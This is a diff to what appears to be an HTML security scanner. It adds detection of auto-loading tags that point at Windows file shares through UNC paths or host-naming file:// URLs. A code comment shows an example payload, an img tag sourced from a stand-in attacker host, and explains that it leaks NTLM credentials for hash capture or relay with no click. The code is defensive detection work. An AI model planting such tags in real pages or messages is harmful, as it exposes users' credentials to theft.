@@ -606,6 +606,11 @@ def _tag_attribute(v: str, tag: str, attr: HtmlAttr, best: _Best, depth: int) ->
         if hit:
             best.add(Severity.HIGH, "script-url", attr.start, attr.end, f"<{tag} {an}={hit}>")
             return
+        if an in _LOADS_ON_ITS_OWN and _file_share(value):
+            # <img src="\\evil.example\x.png">: Windows fetches it over SMB and signs in with the user's
+            # NTLM credentials (hash capture, relay), no click needed
+            best.add(Severity.HIGH, "file-share-url", attr.start, attr.end, f"<{tag} {an}=...> on a Windows file share")
+            return
         if an in _LINK_ATTRIBUTES:
             why = evasive_url(value)
             if not why and value.startswith("``"):
@@ -653,6 +658,14 @@ def _left_open(v: str, tag: str, attr: HtmlAttr, best: _Best) -> None:
     flat = url.translate(_SCHEME_STRIP)
     if len(flat) >= 4 and any(s.startswith(flat) for s in ("javascript:", "vbscript:")):
         best.add(Severity.HIGH, "script-url", attr.start, attr.end, f"<{tag} {attr.name}={quote}{flat}> (cut short)")
+
+
+def _file_share(value: str) -> bool:
+    """A UNC path (`\\\\host\\share`, `\\\\?\\UNC\\...`) or a file: URL naming a host (`file://host/x`)."""
+    v = decode_entities(value[:256]).strip().strip("\"'`").lower()
+    if v.startswith("\\\\") and len(v) > 3 and (v[2].isalnum() or v.startswith("\\\\?\\unc")):
+        return True
+    return v.startswith("file://") and len(v) > 7 and v[7] not in "/\\"
 
 
 def _scheme_without_colon(value: str) -> str:
